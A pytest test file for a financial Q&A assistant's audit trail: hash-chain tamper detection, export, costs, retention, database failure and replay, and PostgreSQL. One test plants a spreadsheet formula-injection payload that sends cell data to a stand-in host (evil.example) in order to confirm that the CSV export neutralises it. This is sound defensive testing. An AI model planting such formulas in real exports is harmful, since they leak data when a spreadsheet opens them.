"""The audit trail (留痕): a row for every turn however it ends, the hash chain, export, costs,
retention, a failing database, several writers, and PostgreSQL."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import logging
import sqlite3
import subprocess
import sys
import threading
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from assistant.answer import Answer, AnswerEngine, Delta
from assistant.audit import AuditLog, AuditRecord, CallRef, DisclosureRef
from assistant.audit.reports import CSV_COLUMNS
from assistant.errors import ConfigurationError, InputError, NoSourcesError
from assistant.factory import build_audit, build_engine, build_store
from assistant.modelcalls import Usage
from assistant.prompts import Turn
from assistant.text import disclosure_id
from tests.conftest import ROOT, clean_env, run, settings_for
from tests.fakellm import FakeLLM
from tests.postgres import PostgresServer

QUESTION = "为什么说DeepSeek反而利好算力?"
DISCLOSURE = "风险提示：投资有风险，投资需谨慎。"


FULL = (
    "CREATE TRIGGER full BEFORE INSERT ON audit_turns BEGIN SELECT RAISE(ABORT, 'disk full'); END"
)


def last_row(engine: AnswerEngine) -> dict[str, Any]:
    assert engine.audit is not None
    [row] = engine.audit.turns(limit=1)
    return row


def record(n: int, at: str, *, tokens: int = 0, model: str = "deepseek-flash") -> AuditRecord:
    """A typed record as the engine writes it (for tests of the log itself)."""
    usage = Usage(
        prompt_tokens=3 * tokens,
        completion_tokens=tokens,
        total_tokens=4 * tokens,
        prompt_cache_hit_tokens=2 * tokens,
        prompt_cache_miss_tokens=tokens,
    )
    call = CallRef("answer", model, "primary", 1, (), "ok", usage, 120.0, 900.0)
    return AuditRecord(
        turn_id=f"turn-{n}",
        at=at,
        kind="turn",
        channel="web",
        session="anon",
        outcome="complete",
        mode="llm",
        why=None,
        model=model,
        audience="investor",
        question=f"问题{n}",
        history_turns=0,
        answer=f"回答{n}[1]。",
        disclosures=(DisclosureRef(disclosure_id(DISCLOSURE), DISCLOSURE),),
        calls=(call,) if tokens else (),
    )


def filled_log(tmp_path: Path, count: int = 5) -> AuditLog:
    log = AuditLog.open(tmp_path / "data" / "audit.sqlite3", spill=tmp_path / "data" / "spill")
    for n in range(1, count + 1):
        log.write(record(n, f"2026-09-0{n}T10:00:00.000+00:00"))
    log.add_feedback("turn-2", "up", "清楚")
    log.add_feedback("turn-3", "down", "")
    return log


# --- one row per turn, however it ends -----------------------------------------------------------


def test_a_row_keeps_the_models_own_words_beside_what_the_gate_let_through(
    online: AnswerEngine, fake_llm: FakeLLM
) -> None:
    written = "杰文斯悖论说明效率提升会增加总用量[7]。风险提示：无。我们保证年化收益15%[1]。"
    fake_llm.script({"text": written})

    answer = online.ask(QUESTION, channel="api")

    row = last_row(online)
    # The reader saw a repaired marker and neither the disclosure talk nor the promise; an
    # auditor sees both texts and can tell what the checks took out.
    assert "[7]" not in answer.answer and "保证" not in answer.answer
    assert row["answer"] == answer.answer and row["model_text"] == written


def test_a_complete_turn_keeps_what_was_shown_and_what_it_rested_on(
    online: AnswerEngine, fake_llm: FakeLLM
) -> None:
    fake_llm.script(
        {"text": "Q: DeepSeek和推理算力需求有什么关系？\nZH: DeepSeek和推理算力需求有什么关系？"},
        "ok",
    )
    history = [Turn("user", QUESTION), Turn("assistant", "因为杰文斯悖论……[1]")]

    events = list(
        online.stream(
            "它和推理算力有什么关系?", history, "advisor", channel="widget", session="anon-7"
        )
    )

    answer = events[-1]
    assert isinstance(answer, Answer)
    deltas = [e.text for e in events if isinstance(e, Delta)]
    row = last_row(online)
    assert (row["turn_id"], row["kind"], row["outcome"], row["mode"], row["why"]) == (
        answer.turn_id,
        "turn",
        "complete",
        "llm",
        None,
    )
    assert (row["channel"], row["session"], row["audience"], row["history_turns"]) == (
        "widget",
        "anon-7",
        "advisor",
        2,
    )
    assert row["question"] == "它和推理算力有什么关系?"
    assert row["standalone"] == row["lexical_query"] == "DeepSeek和推理算力需求有什么关系？"
    # Retrieved chunks with the article version each came from.
    assert [r["chunk_id"] for r in row["retrieved"]] == [r.chunk_id for r in answer.retrieved]
    stored = {c.chunk_id: c for c in online.store.get([r.chunk_id for r in answer.retrieved])}
    assert all(r["doc_hash"] == stored[r["chunk_id"]].meta("doc_hash") for r in row["retrieved"])

    def version(chunk_id: str) -> str | None:  # each citation names its article's version
        return stored[chunk_id].meta("doc_hash")

    # What was shown, in order.
    assert row["streamed"] == deltas and "".join(deltas).strip() == answer.answer
    assert row["answer"] == answer.answer and row["notices"] == answer.notices
    assert row["citations"] == [
        {"n": c.n, "chunk_id": c.chunk_id, "quote": c.quote, "doc_hash": version(c.chunk_id)}
        for c in answer.citations
    ]
    # The disclosure by the store's own id: the row joins the store's versions.
    [key] = row["disclosure_ids"]
    assert len(key) == 16 and online.store.disclosure(key) == answer.disclosure
    assert key == stored[answer.citations[0].chunk_id].meta("disclosure_id")
    assert row["disclosure"] == answer.disclosure
    # The model requests of this turn, and their tokens as columns.
    assert [(c["stage"], c["model"], c["outcome"]) for c in row["calls"]] == [
        ("rewrite", "deepseek-flash", "ok"),
        ("answer", "deepseek-flash", "ok"),
    ]
    usages = [c["usage"] for c in row["calls"]]
    assert row["prompt_tokens"] == sum(u["prompt_tokens"] for u in usages) > 0
    assert row["completion_tokens"] == sum(u["completion_tokens"] for u in usages) > 0
    assert row["cache_miss_tokens"] == sum(u["prompt_cache_miss_tokens"] for u in usages) > 0
    assert row["cache_hit_tokens"] == sum(u["prompt_cache_hit_tokens"] for u in usages)
    assert set(row["latency_ms"]) == {"rewrite", "retrieval", "model", "first_shown", "total"}
    assert row["latency_ms"]["total"] >= row["latency_ms"]["model"] > 0
    assert "sk-test-secret" not in json.dumps(row, ensure_ascii=False)


def test_a_reader_who_leaves_mid_stream_leaves_an_interrupted_row_and_closes_the_request(
    online: AnswerEngine, fake_llm: FakeLLM
) -> None:
    fake_llm.script(
        {
            "text": "杰文斯悖论说明总消耗上升[1]。推理阶段需要大量算力[2]。"
            + "科技巨头继续投入[1]。" * 30
        }
    )
    events = online.stream(QUESTION, channel="web", session="anon-9")
    first = next(events)
    assert isinstance(first, Delta)

    events.close()  # the client disconnected

    row = last_row(online)
    assert (row["outcome"], row["why"], row["session"]) == (
        "interrupted",
        "client_disconnected",
        "anon-9",
    )
    assert row["streamed"] == [first.text] and row["answer"] is None
    assert row["mode"] == "llm" and row["model"] == "deepseek-flash"
    assert [c["outcome"] for c in row["calls"]] == ["closed"]
    ends = time.monotonic() + 2
    while time.monotonic() < ends and any(t.name == "llm-stream" for t in threading.enumerate()):
        time.sleep(0.02)
    assert not any(t.name == "llm-stream" for t in threading.enumerate())


def test_refused_and_failed_turns_leave_rows_too(
    offline: AnswerEngine, embedder, tmp_path: Path
) -> None:
    with pytest.raises(InputError):
        offline.ask("   ", channel="api")
    row = last_row(offline)
    assert (row["outcome"], row["why"], row["channel"]) == ("refused", "invalid_question", "api")

    answer = offline.ask("How do I bake sourdough bread?", channel="openai")
    row = last_row(offline)
    assert (row["outcome"], row["why"], row["answer"]) == ("refused", "not_found", answer.answer)
    assert row["disclosure"] == answer.disclosure

    empty_settings = settings_for(tmp_path / "empty")
    empty = build_engine(empty_settings, store=build_store(empty_settings, embedder))
    with pytest.raises(NoSourcesError):
        empty.ask(QUESTION)
    row = last_row(empty)
    assert (row["outcome"], row["why"], row["question"]) == ("error", "no_sources", QUESTION)


def test_offline_answers_say_why_and_use_no_tokens(offline: AnswerEngine) -> None:
    answer = offline.ask(QUESTION, channel="cli")
    row = last_row(offline)
    assert (row["mode"], row["why"], row["model"], row["calls"]) == ("offline", "no_key", None, [])
    assert row["prompt_tokens"] == 0 and row["answer"] == answer.answer


def test_concurrent_turns_each_record_their_own_usage(
    online: AnswerEngine, fake_llm: FakeLLM
) -> None:
    questions = [QUESTION, "科创板人工智能指数覆盖哪些公司？"]
    alone = {}
    for question in questions:
        online.ask(question)
        row = last_row(online)
        alone[question] = (row["prompt_tokens"], row["completion_tokens"])
    assert alone[questions[0]] != alone[questions[1]]

    fake_llm.script({"keepalive": 0.5})  # the first to arrive waits: the two overlap
    threads = [threading.Thread(target=online.ask, args=(q,)) for q in questions]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    rows = online.audit.turns(limit=2)  # type: ignore[union-attr]
    together = {r["question"]: (r["prompt_tokens"], r["completion_tokens"]) for r in rows}
    assert together == alone


def test_an_exported_draft_is_recorded_with_the_text_as_exported(offline: AnswerEngine) -> None:
    answer = offline.ask(QUESTION, mode="advisor", channel="advisor")
    exported = f"{answer.answer}\n\n（顾问补充：我们保证年化收益15%。）\n\n{answer.disclosure}"

    copy = offline.record_export(answer, exported)

    assert copy.answer == exported and copy.turn_id != answer.turn_id
    row = last_row(offline)
    assert [f["rule"] for f in row["findings"]] == [f["rule"] for f in copy.findings]
    assert any(f["category"] == "guarantee" for f in row["findings"])  # checked as exported
    assert (row["turn_id"], row["kind"], row["outcome"], row["parent_turn"]) == (
        copy.turn_id,
        "export",
        "exported",
        answer.turn_id,
    )
    assert row["answer"] == exported and row["channel"] == "advisor"
    assert row["disclosure"] == answer.disclosure and len(row["disclosure_ids"][0]) == 16
    assert [c["chunk_id"] for c in row["citations"]] == [c.chunk_id for c in answer.citations]


def test_feedback_is_kept_with_its_turn(offline: AnswerEngine) -> None:
    answer = offline.ask(QUESTION)
    assert offline.audit is not None
    assert offline.audit.add_feedback(answer.turn_id, "down", "太长了")
    assert not offline.audit.add_feedback("no-such-turn", "up", "")
    assert [(f["rating"], f["comment"]) for f in offline.audit.feedback(answer.turn_id)] == [
        ("down", "太长了")
    ]
    assert last_row(offline)["feedback"][0]["comment"] == "太长了"
    assert offline.audit.verify().ok


# --- the hash chain ------------------------------------------------------------------------------


def sql(path: Path, *statements: str) -> None:
    """Change the database behind the log's back, as someone with file access could."""
    with sqlite3.connect(path) as db:
        for statement in statements:
            db.execute(statement)


@pytest.mark.parametrize(
    ("tamper", "expected"),
    [
        (
            "UPDATE audit_turns SET answer = '保本保收益' WHERE seq = 3",
            "row 3 (turn turn-3) was altered",
        ),
        ("DELETE FROM audit_turns WHERE seq = 3", "rows 3–3 are missing"),
        ("DELETE FROM audit_turns WHERE seq = 5", "rows at the end were removed"),
        ("UPDATE audit_feedback SET comment = '很好' WHERE seq = 2", "feedback: row 2"),
        ("UPDATE audit_disclosures SET text = '无风险'", "disclosures: the text kept under id"),
    ],
    ids=["altered", "deleted", "last-deleted", "feedback-altered", "disclosure-altered"],
)
def test_verify_names_the_first_broken_link(tmp_path: Path, tamper: str, expected: str) -> None:
    log = filled_log(tmp_path)
    assert log.verify().ok and log.verify().rows == {"turns": 5, "feedback": 2}

    sql(tmp_path / "data" / "audit.sqlite3", tamper)

    result = log.verify()
    assert not result.ok
    assert expected in result.breaks[0], result.breaks


def test_a_row_rewritten_with_a_fresh_hash_breaks_the_next_link(tmp_path: Path) -> None:
    from assistant.audit.schema import row_hash, turns

    log = filled_log(tmp_path)
    with log.engine.begin() as conn:
        row = dict(conn.execute(text("SELECT * FROM audit_turns WHERE seq = 3")).mappings().one())
        row["answer"] = "稳赚不赔"
        conn.execute(
            text("UPDATE audit_turns SET answer = :a, hash = :h WHERE seq = 3"),
            {"a": row["answer"], "h": row_hash(turns, row)},
        )

    [broken] = log.verify().breaks
    assert "row 4 (turn turn-4) does not follow row 3" in broken


def test_audit_verify_on_the_command_line_exits_1_at_a_broken_link(tmp_path: Path) -> None:
    filled_log(tmp_path).close()
    env = {"ASSISTANT_DATA_DIR": str(tmp_path / "data")}
    ok = run(["-m", "assistant", "audit", "verify"], tmp_path, **env)
    assert ok.returncode == 0, ok.stderr
    assert ok.stdout.startswith("ok: 5 turns rows, 2 feedback rows")

    sql(tmp_path / "data" / "audit.sqlite3", "UPDATE audit_turns SET question = 'x' WHERE seq = 2")
    broken = run(["-m", "assistant", "audit", "verify"], tmp_path, **env)
    assert broken.returncode == 1
    assert "BROKEN: turns: row 2 (turn turn-2) was altered" in broken.stdout


def test_verify_checks_a_chain_head_kept_elsewhere(tmp_path: Path) -> None:
    # The last rows deleted and the chain's head moved back to match: every link still
    # holds, and only the head the operator kept elsewhere can tell.
    filled_log(tmp_path).close()
    env = {"ASSISTANT_DATA_DIR": str(tmp_path / "data")}
    first = run(["-m", "assistant", "audit", "verify", "--json"], tmp_path, **env)
    kept = json.loads(first.stdout)["heads"]["turns"]
    again = run(["-m", "assistant", "audit", "verify", "--kept", kept], tmp_path, **env)
    assert again.returncode == 0, again.stdout + again.stderr

    sql(
        tmp_path / "data" / "audit.sqlite3",
        "DELETE FROM audit_turns WHERE seq >= 4",
        "UPDATE audit_chains SET seq = 3, hash = (SELECT hash FROM audit_turns WHERE seq = 3) "
        "WHERE name = 'turns'",
    )
    blind = run(["-m", "assistant", "audit", "verify"], tmp_path, **env)
    assert blind.returncode == 0  # the chain alone cannot show it
    checked = run(["-m", "assistant", "audit", "verify", "--kept", kept], tmp_path, **env)
    assert checked.returncode == 1
    assert f"BROKEN: the head you kept, {kept[:16]}" in checked.stdout


# --- export, costs, retention --------------------------------------------------------------------


def test_a_csv_export_opened_in_a_spreadsheet_runs_no_formula_a_visitor_typed(
    tmp_path: Path,
) -> None:
    planted = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
    log = AuditLog.open(tmp_path / "data" / "audit.sqlite3")
    log.write(dataclasses.replace(record(1, "2026-09-01T08:00:00.000+00:00"), question=planted))
    log.write(dataclasses.replace(record(2, "2026-09-01T09:00:00.000+00:00"), question="@SUM(1)"))
    log.close()
    env = {"ASSISTANT_DATA_DIR": str(tmp_path / "data")}
    exported = run(["-m", "assistant", "audit", "export", "--format", "csv"], tmp_path, **env)
    assert exported.returncode == 0, exported.stderr
    table = list(csv.reader(io.StringIO(exported.stdout)))
    cells = [cell for row in table[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    question = CSV_COLUMNS.index("question")
    assert [row[question] for row in table[1:]] == [f"'{planted}", "'@SUM(1)"]
    assert table[1][CSV_COLUMNS.index("history_turns")] == "0"
    # The JSON lines stay the record, verbatim.
    jsonl = run(["-m", "assistant", "audit", "export"], tmp_path, **env)
    assert json.loads(jsonl.stdout.splitlines()[0])["question"] == planted


def test_export_and_costs_on_the_command_line(tmp_path: Path) -> None:
    log = AuditLog.open(tmp_path / "data" / "audit.sqlite3")
    log.write(record(1, "2026-09-01T08:00:00.000+00:00", tokens=1000))
    log.write(record(2, "2026-09-02T08:00:00.000+00:00", tokens=2000))
    log.write(record(3, "2026-09-02T09:00:00.000+00:00", tokens=500, model="backup-model"))
    log.add_feedback("turn-2", "up", "有用")
    log.close()
    env = {
        "ASSISTANT_DATA_DIR": str(tmp_path / "data"),
        "ASSISTANT_PRICE_CACHE_HIT": "0.1",
        "ASSISTANT_PRICE_CACHE_MISS": "1",
        "ASSISTANT_PRICE_OUTPUT": "2",
        "ASSISTANT_PRICE_CURRENCY": "CNY",
    }

    jsonl = run(["-m", "assistant", "audit", "export", "--since", "2026-09-02"], tmp_path, **env)
    assert jsonl.returncode == 0, jsonl.stderr
    rows = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert [r["turn_id"] for r in rows] == ["turn-2", "turn-3"]
    assert rows[0]["feedback"][0]["comment"] == "有用" and rows[0]["disclosure"] == DISCLOSURE
    assert rows[0]["calls"][0]["usage"]["prompt_cache_hit_tokens"] == 4000
    assert rows[1]["prev_hash"] == rows[0]["hash"]

    exported = run(["-m", "assistant", "audit", "export", "--format", "csv"], tmp_path, **env)
    table = list(csv.reader(io.StringIO(exported.stdout)))
    assert tuple(table[0]) == CSV_COLUMNS and len(table) == 4
    assert table[1][CSV_COLUMNS.index("question")] == "问题1"

    bad = run(["-m", "assistant", "audit", "export", "--since", "2026-13-01"], tmp_path, **env)
    assert bad.returncode == 2 and "--since" in bad.stderr

    costs = run(
        ["-m", "assistant", "audit", "costs", "--json", "--since", "2026-09-01"], tmp_path, **env
    )
    assert costs.returncode == 0, costs.stderr
    report = json.loads(costs.stdout)
    assert report["currency"] == "CNY"
    days = {(d["day"], d["model"]): d for d in report["days"]}
    assert set(days) == {
        ("2026-09-01", "deepseek-flash"),
        ("2026-09-02", "deepseek-flash"),
        ("2026-09-02", "backup-model"),
    }
    second = days[("2026-09-02", "deepseek-flash")]
    assert (second["cache_hit_tokens"], second["cache_miss_tokens"]) == (4000, 2000)
    # 4000 × 0.1 + 2000 × 1 + 2000 × 2 per million
    assert second["estimated_cost"] == pytest.approx(0.0064)
    table_view = run(
        ["-m", "assistant", "audit", "costs", "--since", "2026-09-01"], tmp_path, **env
    )
    assert "backup-model" in table_view.stdout and "est. CNY" in table_view.stdout


def test_an_export_read_only_in_part_ends_quietly(tmp_path: Path) -> None:
    # `audit export | head` is how an operator looks at the trail: the reader leaves early, and
    # the command must stop without a traceback (nor "Exception ignored" at exit).
    log = AuditLog.open(tmp_path / "data" / "audit.sqlite3")
    for n in range(1, 301):  # well past what the pipe holds, so the export meets the closed end
        log.write(record(n, f"2026-09-01T08:{n // 60:02d}:{n % 60:02d}.000+00:00"))
    log.close()
    with subprocess.Popen(
        [sys.executable, "-m", "assistant", "audit", "export"],
        cwd=tmp_path,
        env=clean_env(ASSISTANT_DATA_DIR=str(tmp_path / "data")),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    ) as export:
        assert export.stdout is not None and export.stderr is not None
        assert json.loads(export.stdout.readline())["turn_id"] == "turn-1"
        export.stdout.close()
        errors = export.stderr.read()
        assert export.wait(timeout=120) == 1
    assert "Traceback" not in errors and "Exception ignored" not in errors, errors


def test_retention_removes_the_oldest_rows_and_the_rest_still_verifies(tmp_path: Path) -> None:
    log = AuditLog.open(tmp_path / "audit.sqlite3")
    for n, at in enumerate(["2020-01-01", "2020-06-01", "2099-01-01", "2099-02-01"], start=1):
        log.write(record(n, f"{at}T00:00:00.000+00:00"))
    log.add_feedback("turn-1", "up", "")
    log.add_feedback("turn-3", "up", "")

    removed = log.purge(older_than_days=365)

    # Each chain loses what was written before the cutoff: the feedback was written today.
    assert removed == {"turns": 2, "feedback": 0}
    assert [r["turn_id"] for r in log.rows()] == ["turn-3", "turn-4"]
    assert log.verify().ok
    assert not log.add_feedback("turn-1", "down", "")  # its turn is gone
    log.write(record(5, "2099-03-01T00:00:00.000+00:00"))
    assert log.verify().ok and log.verify().rows["turns"] == 3
    sql(tmp_path / "audit.sqlite3", "DELETE FROM audit_turns WHERE seq = 3")
    assert "rows 3–3 are missing" in log.verify().breaks[0]


def test_retention_never_removes_an_advisors_suitability_record_younger_than_20_years(
    tmp_path: Path,
) -> None:
    # An advisor's drafts and exports are suitability records (kept at least 20 years): a
    # one-year retention removes the investor turns before the first of them and no more.
    log = AuditLog.open(tmp_path / "audit.sqlite3")
    rows = [("web", "2001-01-01"), ("advisor", "2001-06-01"), ("web", "2020-01-01")]
    rows += [("advisor", "2023-01-01"), ("web", "2024-01-01"), ("web", "2099-01-01")]
    for n, (channel, at) in enumerate(rows, start=1):
        log.write(replace(record(n, f"{at}T00:00:00.000+00:00"), channel=channel))

    removed = log.purge(older_than_days=365)

    assert removed["turns"] == 3  # the web turns of 2001 and 2020, the advisor's of 2001 (>20y)
    assert [r["turn_id"] for r in log.rows()] == ["turn-4", "turn-5", "turn-6"]
    assert log.verify().ok
    log.close()


def test_the_retention_setting_applies_when_the_trail_is_opened(tmp_path: Path) -> None:
    settings = settings_for(tmp_path, audit_retention_days=30)
    log = build_audit(settings)
    log.write(record(1, "2020-01-01T00:00:00.000+00:00"))
    log.write(record(2, "2099-01-01T00:00:00.000+00:00"))
    log.close()

    reopened = build_audit(settings)

    assert [r["turn_id"] for r in reopened.rows()] == ["turn-2"] and reopened.verify().ok
    reopened.close()


def test_purge_needs_a_period(tmp_path: Path) -> None:
    result = run(["-m", "assistant", "audit", "purge"], tmp_path, ASSISTANT_DATA_DIR=str(tmp_path))
    assert result.returncode == 2 and "ASSISTANT_AUDIT_RETENTION_DAYS" in result.stderr


# --- a failing database --------------------------------------------------------------------------


def test_a_failed_audit_write_still_answers_is_logged_loudly_and_replay_restores_it(
    offline: AnswerEngine, caplog: pytest.LogCaptureFixture
) -> None:
    assert offline.audit is not None and offline.audit.spill is not None
    offline.audit.write(record(1, "2026-09-01T00:00:00.000+00:00"))
    path = Path(str(offline.audit.engine.url.database))
    sql(path, FULL)

    answer = offline.ask(QUESTION, channel="web")

    assert answer.mode == "offline" and answer.disclosure and answer.turn_id
    failures = [r for r in caplog.records if "AUDIT WRITE FAILED" in r.getMessage()]
    assert (
        failures
        and failures[0].levelno == logging.ERROR
        and answer.turn_id in failures[0].getMessage()
    )
    assert offline.audit.unwritten() == 1 and offline.audit.turn(answer.turn_id) is None
    assert offline.audit.verify().ok  # the failed write left no half row behind

    sql(path, "DROP TRIGGER full")
    assert offline.audit.replay() == 1

    row = offline.audit.turn(answer.turn_id)
    assert row is not None and row["answer"] == answer.answer and row["channel"] == "web"
    assert offline.audit.unwritten() == 0 and offline.audit.verify().ok


def test_writers_in_several_processes_keep_one_unbroken_chain(tmp_path: Path) -> None:
    script = (
        "import sys\n"
        "from pathlib import Path\n"
        "from assistant.audit import AuditLog, AuditRecord\n"
        "log = AuditLog.open(Path(sys.argv[1]))\n"
        "for n in range(25):\n"
        "    log.write(AuditRecord(f'{sys.argv[2]}-{n}', '2026-09-01T00:00:00.000+00:00', 'turn',\n"
        "        'api', None, 'complete', 'offline', 'no_key', None, 'investor', '问', 0))\n"
    )
    database = tmp_path / "audit.sqlite3"
    AuditLog.open(database).close()
    writers = [
        subprocess.Popen(
            [sys.executable, "-c", script, str(database), str(w)], cwd=ROOT, env=clean_env()
        )
        for w in range(3)
    ]
    assert [writer.wait(timeout=300) for writer in writers] == [0, 0, 0]

    result = AuditLog.open(database).verify()
    assert result.ok, result.breaks
    assert result.rows["turns"] == 75


def test_an_audit_file_from_before_the_chain_is_left_beside_it(tmp_path: Path) -> None:
    path = tmp_path / "audit.sqlite3"
    sql(
        path,
        "CREATE TABLE turns (id INTEGER PRIMARY KEY, question TEXT)",
        "INSERT INTO turns VALUES (1, '旧')",
    )

    log = AuditLog.open(path)
    log.write(record(1, "2026-09-01T00:00:00.000+00:00"))

    assert log.verify().ok
    with sqlite3.connect(path) as db:
        assert db.execute("SELECT question FROM turns").fetchall() == [("旧",)]


# --- PostgreSQL ----------------------------------------------------------------------------------


def test_the_trail_on_postgresql(
    seeded, postgres_server: PostgresServer, postgres_url: str, tmp_path: Path
) -> None:
    # A plain postgresql:// URL, as an operator writes it, uses psycopg 3.
    settings = settings_for(tmp_path, audit_url=postgres_url.replace("+psycopg", ""))
    engine = build_engine(settings, store=seeded[1])
    log = engine.audit
    assert log is not None and log.engine.dialect.name == "postgresql"
    try:
        answer = engine.ask(QUESTION, channel="web", session="pg-1")
        assert log.add_feedback(answer.turn_id, "up", "好")
        threads = [
            threading.Thread(
                target=lambda w=w: [
                    log.write(record(w * 100 + n, "2026-09-01T00:00:00.000+00:00"))
                    for n in range(10)
                ]
            )
            for w in range(4)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

        result = log.verify()
        assert result.ok, result.breaks
        assert result.rows == {"turns": 41, "feedback": 1}
        row = log.turn(answer.turn_id)
        assert row is not None and row["session"] == "pg-1" and row["answer"] == answer.answer
        assert row["disclosure"] == answer.disclosure and row["feedback"][0]["comment"] == "好"

        # The database goes down: the user still gets the answer; the record waits in the spill.
        postgres_server.stop()
        try:
            during = engine.ask(QUESTION, channel="web")
            assert during.mode == "offline" and during.disclosure
        finally:
            postgres_server.start()
        assert log.unwritten() == 1 and log.replay() == 1
        assert log.turn(during.turn_id) is not None and log.verify().ok

        with log.engine.begin() as conn:
            conn.execute(text("UPDATE audit_turns SET answer = '保本' WHERE seq = 7"))
        assert "row 7" in log.verify().breaks[0]
    finally:
        log.close()


def test_each_audit_database_keeps_its_own_spill_and_replay_never_crosses_them(
    tmp_path: Path,
) -> None:
    def trail(name: str) -> AuditLog:
        url = f"sqlite:///{tmp_path / name}.sqlite3"
        return build_audit(settings_for(tmp_path, audit_url=url))

    first, second = trail("first"), trail("second")
    try:
        assert first.spill is not None and second.spill is not None
        assert first.spill != second.spill and first.spill.parent == tmp_path / "data"
        sql(Path(str(first.engine.url.database)), FULL)
        assert not first.write_or_spill(record(1, "2026-09-01T00:00:00.000+00:00"))

        # An operator who switched ASSISTANT_AUDIT_URL replays into the other database:
        # nothing of the first one's goes there.
        assert second.unwritten() == 0 and second.replay() == 0
        assert second.turn("turn-1") is None and first.unwritten() == 1
    finally:
        first.close()
        second.close()


def test_a_record_neither_database_nor_spill_can_keep_is_logged_whole_and_said_lost(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    spill = tmp_path / "data" / "audit-unwritten.jsonl"
    spill.mkdir(parents=True)  # cannot be opened for writing
    log = AuditLog.open(tmp_path / "data" / "audit.sqlite3", spill=spill)
    try:
        sql(tmp_path / "data" / "audit.sqlite3", FULL)
        assert not log.write_or_spill(record(7, "2026-09-01T00:00:00.000+00:00"))
    finally:
        log.close()
    failed = [r.getMessage() for r in caplog.records if "AUDIT WRITE FAILED" in r.getMessage()]
    assert failed and "for `python -m assistant audit replay`" not in failed[0]
    assert "nor could it be kept in the spill file" in failed[0]
    lost = [r for r in caplog.records if r.levelno == logging.CRITICAL]
    assert lost and "turn-7" in lost[0].getMessage()


def test_a_postgresql_server_that_is_not_running_is_a_clear_start_error(tmp_path: Path) -> None:
    settings = settings_for(tmp_path, audit_url="postgresql://audit:s3cret@127.0.0.1:9/none")
    with pytest.raises(ConfigurationError, match="ASSISTANT_AUDIT_URL") as caught:
        build_audit(settings)
    assert "s3cret" not in str(caught.value)
